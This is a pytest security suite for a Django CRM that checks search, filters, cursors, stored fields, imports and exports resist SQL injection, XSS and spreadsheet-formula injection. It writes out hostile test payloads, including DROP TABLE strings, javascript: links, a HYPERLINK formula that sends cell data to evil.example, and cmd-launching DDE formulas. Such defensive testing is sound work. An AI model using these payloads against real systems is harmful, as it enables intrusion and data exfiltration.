"""SQL and markup payloads in every search box, filter and text field, as a
curious or malicious user types them: the answer is never a server error, a
search matches no extra rows, the tables are still there, and whatever is shown
back, typed now or stored earlier, is text, never markup."""

from __future__ import annotations

import base64
import csv
import io
import json
from typing import Any
from urllib.parse import parse_qsl

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import Client
from django.utils import timezone
from django.utils.html import escape
from openpyxl import load_workbook

from connexion.api.services import create_token
from connexion.people.models import Organization, Person
from connexion.people.services import create_person
from connexion.portal.services import save_web_form
from connexion.privacy.models import Purpose, SubjectRequest
from connexion.sales.models import Activity, Deal, Lead, Note, Pipeline, Task
from tests.exports import export_people
from tests.portal.conftest import started_value
from tests.security.conftest import (
    IMG,
    RAW_MARKUP,
    SCRIPT,
    SQL_PAYLOADS,
    STORED,
    TEMPLATE,
    XSS_PAYLOADS,
    assert_no_raw_markup,
    assert_shown_escaped,
    table_counts,
)

pytestmark = pytest.mark.django_db

ALL_PAYLOADS = SQL_PAYLOADS + XSS_PAYLOADS
FILTER_PAYLOADS = [SQL_PAYLOADS[0], *XSS_PAYLOADS]
ROLES = {"sales": "sales", "officer": "privacy_officer"}


def cursor_of(value: Any) -> str:
    return base64.urlsafe_b64encode(json.dumps(value).encode()).decode().rstrip("=")


# Cursors a user can forge. Those that do not parse at all, or whose position is
# not a number: a page starts the list again from the top, the API answers 422...
UNPARSEABLE_CURSORS = [
    "!!!not-base64!!!",
    cursor_of({"a": 1}),
    cursor_of(["x", "1; DROP TABLE people_person"]),
    cursor_of([None, None]),
]
BAD_DATE_CURSOR = cursor_of(["2026-13-45T99:99:99", -1])
# ...and those that parse but carry a value of the wrong type for the sort, or
# SQL: checked against the sort's type when decoded, or compared as a value.
TYPED_CURSORS = [
    cursor_of(["' OR 1=1 --", 1]),
    cursor_of([{"nested": "object"}, 1]),
    BAD_DATE_CURSOR,
    cursor_of([True, True]),
]
FORGED_CURSORS = UNPARSEABLE_CURSORS + TYPED_CURSORS


def found(response) -> list[Any]:
    """The records a list page shows, whatever the page object is called."""
    page = response.context["page"]
    for name in ("items", "events", "object_list"):
        if hasattr(page, name):
            return list(getattr(page, name))
    raise AssertionError(f"no records on {page!r}")


# --- reflected: search boxes and filters -----------------------------------------------

# role -> (url, parameter, shown back in a text box)
REFLECTED = {
    "sales": [
        ("/people/", "q", True),
        ("/people/", "tag", False),
        ("/people/", "province", False),
        ("/people/", "lifecycle_stage", False),
        ("/people/", "sort", False),
        ("/people/lookup/?field=q", "q", False),
        ("/organizations/", "q", True),
        ("/organizations/", "kind", False),
        ("/organizations/lookup/?field=q", "q", False),
        ("/sales/", "q", True),
        ("/sales/", "status", False),
        ("/sales/", "amount_min", False),
        ("/sales/leads/", "q", True),
        ("/sales/leads/", "source", False),
        ("/sales/tasks/", "status", False),
        ("/sales/activities/", "kind", False),
        ("/sales/dashboard/", "since", False),
        ("/data-protection/people/export.csv", "q", False),
    ],
    "officer": [
        ("/audit/", "action", True),
        ("/audit/", "kind", False),
        ("/audit/", "since", False),
        ("/data-protection/requests/", "status", False),
        ("/data-protection/requests/", "kind", False),
        ("/data-protection/requests/", "channel", False),
        ("/data-protection/objections/", "status", False),
        ("/data-protection/disclosures/", "basis", False),
        ("/data-protection/restrictions/", "status", False),
        ("/data-protection/breaches/", "status", False),
        ("/data-protection/record-of-processing/", "lang", False),
        ("/privacy/manage/", "visitor", False),
    ],
    "anonymous": [
        ("/privacy/request/", "kind", False),
        ("/privacy/", "lang", False),
        ("/account/sign-in/", "next", False),
    ],
}


@pytest.mark.parametrize("role", list(REFLECTED))
def test_payloads_in_search_boxes_and_filters_fail_nothing_and_come_back_as_text(
    role, login, bystanders
):
    """Every problem is collected, so that one run lists them all."""
    client = Client() if role == "anonymous" else login(role, ROLES[role])
    before = table_counts()
    problems = []
    for url, param, shown_in_box in REFLECTED[role]:
        path, _sep, fixed = url.partition("?")
        # A text box gets every payload; a choice or a date, one of each kind.
        for payload in ALL_PAYLOADS if shown_in_box else FILTER_PAYLOADS:
            response = client.get(path, {**dict(parse_qsl(fixed)), param: payload})
            where = f"{url} {param}={payload!r}"
            if response.status_code >= 500:
                problems.append(f"{where}: {response.status_code}")
                continue
            if not response["Content-Type"].startswith("text/html"):
                continue
            body = response.content.decode()
            problems += [f"{where}: unescaped {raw!r}" for raw in RAW_MARKUP if raw in body]
            if shown_in_box and f'value="{escape(payload)}"' not in body:
                problems.append(f"{where}: not shown back, escaped, in its box")
    assert problems == []
    assert table_counts() == before


# (url, parameter, a search that finds the bystander)
SEARCHES = [
    ("/people/", "q", "Somchai"),
    ("/organizations/", "q", "Acme"),
    ("/sales/", "q", "Acme renewal"),
    ("/sales/leads/", "q", "Acme"),
]


@pytest.mark.parametrize(("url", "param", "control"), SEARCHES)
def test_sql_in_a_search_matches_no_one(url, param, control, sales, bystanders):
    assert found(sales.get(url, {param: control})), "the control search finds the bystander"
    for payload in SQL_PAYLOADS + XSS_PAYLOADS:
        response = sales.get(url, {param: payload})
        assert response.status_code == 200
        assert found(response) == [], payload


def test_sql_in_the_audit_search_matches_no_entry(officer, bystanders):
    officer.get(f"/people/{bystanders['person'].pk}/")  # one entry to find
    assert found(officer.get("/audit/", {"action": "people.detail"}))
    for payload in SQL_PAYLOADS:
        response = officer.get("/audit/", {"action": payload})
        assert response.status_code == 200
        assert found(response) == [], payload


def test_the_tables_survive_every_payload(sales, bystanders):
    def lookup(text: str) -> str:
        return sales.get("/people/lookup/", {"field": "q", "q": text}).content.decode()

    assert "Somchai" in lookup("Somchai")
    for payload in SQL_PAYLOADS:
        for url in ("/people/", "/organizations/", "/sales/", "/sales/leads/"):
            sales.get(url, {"q": payload})
        assert "Somchai" not in lookup(payload), payload
    tables = set(connection.introspection.table_names())
    assert {"people_person", "accounts_user", "sales_deal", "audit_auditevent"} <= tables
    assert Person.objects.get() == bystanders["person"]
    assert table_counts() == {"people": 1, "organizations": 1, "deals": 1, "leads": 1}


@pytest.mark.parametrize(
    ("url", "sorts", "cursors"),
    [
        ("/people/", ["", "name_en", "updated"], FORGED_CURSORS),
        ("/organizations/", ["", "name_th"], FORGED_CURSORS),
        ("/sales/", ["", "newest", "close_date", "amount"], FORGED_CURSORS),
        ("/sales/leads/", ["", "oldest"], FORGED_CURSORS),
    ],
)
def test_a_forged_cursor_gives_a_page_not_an_error(url, sorts, cursors, sales, bystanders):
    for sort in sorts:
        for cursor in cursors:
            response = sales.get(url, {"cursor": cursor, **({"sort": sort} if sort else {})})
            assert response.status_code == 200, (sort, cursor)


@pytest.mark.parametrize(
    ("role", "url", "param"),
    [
        ("sales", "/people/", "owner"),
        ("sales", "/sales/", "owner"),
        ("sales", "/sales/", "pipeline"),
        ("sales", "/sales/board/", "owner"),
        ("sales", "/sales/deals/new/", "person"),
        ("officer", "/audit/", "person"),
        ("officer", "/audit/", "before"),
        ("officer", "/data-protection/requests/", "assignee"),
    ],
)
def test_a_wrong_number_in_a_filter_is_ignored_or_refused(role, url, param, login, bystanders):
    client = login(role, ROLES[role])
    for value in ["-1", "1.5", "0x10", "' OR 1=1 --", "٣"]:
        assert client.get(url, {param: value}).status_code < 500, value


# --- the API's list endpoints ---------------------------------------------------------


@pytest.fixture
def api(make_user) -> Client:
    _token, raw = create_token(make_user("apiuser", roles=("admin",)))
    return Client(HTTP_AUTHORIZATION=f"Bearer {raw}", HTTP_ACCEPT_LANGUAGE="en")


API_SEARCHES = [
    ("/api/v1/persons", "q", "Somchai"),
    ("/api/v1/persons", "tag", None),
    ("/api/v1/organizations", "q", "Acme"),
    ("/api/v1/products", "q", "CRM"),
    ("/api/v1/deals", "q", "Acme renewal"),
    ("/api/v1/leads", "q", "Acme"),
]


@pytest.mark.parametrize(("url", "param", "control"), API_SEARCHES)
def test_api_searches_match_no_one_and_answer_json(url, param, control, api, bystanders):
    if control:
        assert api.get(url, {param: control}).json()["items"], "the control finds the bystander"
    for payload in ALL_PAYLOADS:
        response = api.get(url, {param: payload})
        assert response.status_code == 200, payload
        assert response["Content-Type"].startswith("application/json")
        assert response.json()["items"] == [], payload
    assert table_counts()["people"] == 1


@pytest.mark.parametrize(
    ("url", "typed"),
    [
        ("/api/v1/persons", TYPED_CURSORS),
        ("/api/v1/organizations", TYPED_CURSORS),
        ("/api/v1/deals", TYPED_CURSORS),
        ("/api/v1/leads", TYPED_CURSORS),
        ("/api/v1/products", TYPED_CURSORS),
        ("/api/v1/activities", TYPED_CURSORS),
        ("/api/v1/notes", TYPED_CURSORS),
    ],
)
def test_api_forged_cursors_and_filters_get_a_page_or_a_422_never_an_error(
    url, typed, api, bystanders
):
    for cursor in [*UNPARSEABLE_CURSORS, "x" * 501]:
        response = api.get(url, {"cursor": cursor})
        assert response.status_code == 422, cursor
        assert [error["field"] for error in response.json()["errors"]] == ["cursor"]
    for cursor in typed:
        response = api.get(url, {"cursor": cursor})
        assert response.status_code in (200, 422), cursor
        assert response["Content-Type"].startswith("application/json")
    for name, value in [("limit", "0"), ("limit", "100000"), ("sort", "'; --"), ("owner", "x")]:
        response = api.get(url, {name: value})
        assert response.status_code in (200, 422), (name, value)


def test_the_language_switch_answers_a_wrong_choice_as_text(db):
    client = Client()
    for payload in XSS_PAYLOADS:
        response = client.post("/account/language/", {"language": payload, "next": "/"})
        assert response.status_code == 400
        assert_no_raw_markup(response.content.decode(), "the language switch")
    # A way back that is no address of ours stays a relative, quoted one. (One
    # with neither "/" nor "." is taken for a view name and fails: see the report.)
    for payload in (SCRIPT, f"/{IMG}", f"/{TEMPLATE}"):
        response = client.post("/account/language/", {"language": "en", "next": payload})
        assert response.status_code == 302
        assert "<" not in response["Location"] and '"' not in response["Location"]
        assert "//" not in response["Location"] and ":" not in response["Location"]


# --- stored: what staff write -----------------------------------------------------------


def now_field() -> str:
    return timezone.localtime().strftime("%Y-%m-%dT%H:%M")


def test_people_and_organizations_written_with_markup_show_it_as_text(sales, officer):
    created = sales.post(
        "/people/new/",
        {
            "source_kind": "direct",
            "source_channel": "phone",
            "first_name_th": STORED,
            "last_name_en": STORED,
            "occupation": STORED,
            "employer_name": STORED,
            "lifecycle_stage": "prospect",
            # Tags are at most 60 characters (a longer one fails: see the report).
            "tags": f"vip, {SCRIPT}{TEMPLATE}",
        },
    )
    assert created.status_code == 302
    person = Person.objects.get()
    assert person.first_name_th == STORED
    assert f"{SCRIPT}{TEMPLATE}" in person.tags.values_list("name", flat=True)
    created = sales.post(
        "/organizations/new/",
        {
            "source_kind": "direct",
            "source_channel": "phone",
            "kind": "customer",
            "name_th": STORED,
            "name_en": STORED,
            "industry": STORED,
        },
    )
    assert created.status_code == 302
    organization = Organization.objects.get()
    sales.post("/people/views/save/", {"name": STORED, "query_string": "q=x"})
    for client, url in [
        (sales, "/people/"),
        (sales, f"/people/{person.pk}/"),
        (sales, f"/people/{person.pk}/edit/"),
        (sales, "/people/lookup/?field=q&q=img"),
        (sales, "/organizations/"),
        (sales, f"/organizations/{organization.pk}/"),
        (sales, "/organizations/lookup/?field=q&q=img"),
        (officer, f"/people/{person.pk}/"),
        (officer, "/audit/"),
    ]:
        response = client.get(url)
        assert response.status_code == 200, url
        assert_shown_escaped(response.content.decode(), url)
    for url in [
        "/people/duplicates/",
        "/",
        f"/audit/people/{person.pk}/viewers/",
        f"/data-protection/people/{person.pk}/erase/",
    ]:
        response = officer.get(url)
        assert response.status_code == 200, url
        assert_no_raw_markup(response.content.decode(), url)


def test_deals_leads_activities_and_tasks_written_with_markup_show_it_as_text(sales, bystanders):
    person = bystanders["person"]
    stage = Pipeline.objects.get(is_default=True).stages.first()
    assert (
        sales.post(
            "/sales/deals/new/",
            {
                "title": STORED,
                "stage": stage.pk,
                "person": f"#{person.pk}",
                "owner": sales.user.pk,
                "amount": "100",
                "currency": "THB",
            },
        ).status_code
        == 302
    )
    deal = Deal.objects.get(title=STORED)
    assert (
        sales.post(
            "/sales/leads/new/",
            {
                "title": STORED,
                "first_name": "Noi",
                "company_name": STORED,
                "email": "noi@example.com",
                "source": "referral",
                "source_detail": STORED,
                "owner": sales.user.pk,
            },
        ).status_code
        == 302
    )
    lead = Lead.objects.get(title=STORED)
    timeline = f"/sales/timeline/person/{person.pk}"
    htmx = {"HTTP_HX_REQUEST": "true"}
    sales.post(
        f"{timeline}/activity/new/",
        {"kind": "call", "subject": STORED, "occurred_at": now_field(), "outcome": STORED},
        **htmx,
    )
    sales.post(
        f"{timeline}/task/new/",
        {"title": STORED, "due_at": now_field(), "assignee": sales.user.pk, "priority": "normal"},
        **htmx,
    )
    note = sales.post(f"{timeline}/note/new/", {"body": STORED}, **htmx)
    assert_no_raw_markup(note.content.decode(), "the note's answer")
    assert Activity.objects.filter(subject=STORED, outcome=STORED).exists()
    assert Task.objects.filter(title=STORED).exists()
    assert "<script" not in Note.objects.get().body_html
    for url in [
        "/sales/",
        f"/sales/deals/{deal.pk}/",
        f"/sales/deals/{deal.pk}/edit/",
        "/sales/board/",
        "/sales/leads/",
        f"/sales/leads/{lead.pk}/",
        f"/people/{person.pk}/",
        "/sales/tasks/",
        "/sales/tasks/mine/",
        "/sales/activities/",
    ]:
        response = sales.get(url)
        assert response.status_code == 200, url
        assert_shown_escaped(response.content.decode(), url)
    for url in ["/sales/dashboard/", "/sales/reminders/", "/"]:
        response = sales.get(url)
        assert response.status_code == 200, url
        assert_no_raw_markup(response.content.decode(), url)


def test_names_staff_give_themselves_or_their_teams_show_as_text_to_others(
    sales, admin, bystanders
):
    """A user's own name (changed through the API) and names an admin types are
    shown to other staff: on the settings pages, as a deal's owner, in the log."""
    _token, raw = create_token(sales.user)
    renamed = Client().patch(
        "/api/v1/me",
        json.dumps({"first_name": STORED, "last_name": STORED}),
        content_type="application/json",
        HTTP_AUTHORIZATION=f"Bearer {raw}",
    )
    assert renamed.status_code == 200
    assert admin.post("/settings/teams/", {"name": STORED}).status_code == 302
    assert (
        admin.post(
            "/sales/products/new/",
            {"code": "EVIL", "name_th": STORED, "name_en": STORED, "price": "10"},
        ).status_code
        == 302
    )
    deal = bystanders["deal"]
    Deal.objects.filter(pk=deal.pk).update(owner=sales.user)
    for url in [
        "/settings/",
        "/settings/teams/",
        f"/settings/users/{sales.user.pk}/",
        "/sales/products/",
        f"/sales/deals/{deal.pk}/",
        "/sales/",
        "/audit/",
    ]:
        response = admin.get(url)
        assert response.status_code == 200, url
        assert_shown_escaped(response.content.decode(), url)


def test_a_person_made_through_the_api_shows_as_text_on_the_pages(api, sales):
    response = api.post(
        "/api/v1/persons",
        json.dumps(
            {
                "first_name_th": STORED,
                "last_name_en": STORED,
                "source": {"kind": "direct", "channel": "web_form"},
            }
        ),
        content_type="application/json",
    )
    assert response.status_code == 201
    # The API answers JSON: the value comes back as it was given, as data.
    assert response["Content-Type"].startswith("application/json")
    assert response.json()["first_name_th"] == STORED
    person_id = response.json()["id"]
    for url in ["/people/", f"/people/{person_id}/", f"/comms/people/{person_id}/email/"]:
        page = sales.get(url)
        assert page.status_code == 200, url
        assert_shown_escaped(page.content.decode(), url)


@pytest.mark.parametrize(
    "website",
    [
        "javascript:alert(document.cookie)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
    ],
)
def test_a_script_link_as_a_website_is_refused(website, sales, api):
    ui = sales.post(
        "/organizations/new/",
        {
            "source_kind": "direct",
            "source_channel": "phone",
            "kind": "customer",
            "name_th": "บริษัท",
            "website": website,
        },
    )
    assert ui.status_code == 200 and "website" in ui.context["form"].errors
    by_api = api.post(
        "/api/v1/organizations",
        json.dumps(
            {
                "name_th": "บริษัท",
                "website": website,
                "source": {"kind": "direct", "channel": "web_form"},
            }
        ),
        content_type="application/json",
    )
    assert by_api.status_code == 422
    assert [error["field"] for error in by_api.json()["errors"]] == ["website"]
    assert not Organization.objects.exists()


def test_markup_in_an_imported_file_shows_as_text_in_the_preview(sales):
    # The value in a column name and in a cell (quoted, its quotes doubled).
    header = STORED.replace('"', "")
    cell = STORED.replace('"', '""')
    rows = f'first_name_th,email,{header}\n"{cell}",a@example.com,x\n'
    response = sales.post(
        "/people/import/",
        {"file": SimpleUploadedFile("people.csv", rows.encode(), content_type="text/csv")},
    )
    assert response.status_code == 302
    mapping = sales.get(response["Location"])
    assert mapping.status_code == 200
    assert_shown_escaped(mapping.content.decode(), "the import mapping page")


# --- stored: what the public writes --------------------------------------------------------


def test_a_privacy_center_request_with_markup_shows_as_text_to_the_officer(officer):
    visitor = Client(HTTP_ACCEPT_LANGUAGE="en")
    form = visitor.get("/privacy/request/").content.decode()
    response = visitor.post(
        "/privacy/request/",
        {
            "kind": "access",
            "requester_name": STORED,
            "email": "somsri@example.co.th",
            "phone": "",
            "send_code_by": "email",
            "description": STORED,
            "website": "",
            "started": started_value(form),
        },
    )
    assert response.status_code == 302
    request = SubjectRequest.objects.get()
    assert request.requester_name == STORED
    assert_no_raw_markup(visitor.get(response["Location"]).content.decode(), "the follow page")
    for url in ["/data-protection/requests/", f"/data-protection/requests/{request.pk}/"]:
        page = officer.get(url)
        assert page.status_code == 200
        assert_shown_escaped(page.content.decode(), url)


def test_a_web_form_filled_with_markup_shows_as_text_to_staff(sales, officer):
    web_form = save_web_form(
        officer.user,
        name_th="ขอใบเสนอราคา",
        name_en="Ask for a quote",
        fields=[
            {"field": "first_name", "required": True},
            {"field": "last_name", "required": False},
            {"field": "email", "required": True},
            {"field": "company", "required": False},
            {"field": "message", "required": False},
        ],
        purposes=[Purpose.objects.get(code="direct-marketing")],
        owner=sales.user,
        allowed_origins="https://www.example.co.th",
    )
    url = f"/privacy/forms/{web_form.key}/"
    visitor = Client(HTTP_ACCEPT_LANGUAGE="en")
    shown = visitor.get(url).content.decode()
    response = visitor.post(
        url,
        {
            "started": started_value(shown),
            "first_name": STORED,
            "last_name": STORED,
            "email": "visitor@example.com",
            "company": STORED,
            "message": STORED,
        },
    )
    assert response.status_code == 200
    assert_no_raw_markup(response.content.decode(), "the thank-you page")
    person = Person.objects.get()
    assert STORED in (person.first_name_th, person.first_name_en)
    for client, url in [
        (sales, f"/people/{person.pk}/"),
        (sales, "/people/"),
        (sales, "/sales/tasks/mine/"),
        (sales, "/sales/activities/"),
        (officer, f"/privacy/manage/forms/{web_form.pk}/"),
    ]:
        page = client.get(url)
        assert page.status_code == 200, url
        assert_shown_escaped(page.content.decode(), url)


# --- stored: formulas in the exports ---------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A2,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_formulas_typed_as_names_stay_text_in_the_exports(sales, source):
    """Names come from anyone (web forms, the API, imports): opened in a
    spreadsheet, the export must not run them as formulas."""
    for formula in FORMULAS:
        create_person(
            None, source=source, first_name_th=formula, last_name_en=formula, nickname_th="x"
        )
    rows = list(csv.reader(io.StringIO(export_people(sales, "csv").content.decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert len(rows) == len(FORMULAS) + 1
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert {f"'{formula}" for formula in FORMULAS} <= set(cells)
    workbook = load_workbook(io.BytesIO(export_people(sales, "xlsx").content))
    sheet = workbook.worksheets[0]
    values = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert len(values) > len(FORMULAS)
    assert not [cell.value for cell in values if cell.data_type == "f"]
    assert not [
        cell.value
        for cell in values
        if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@"))
    ]
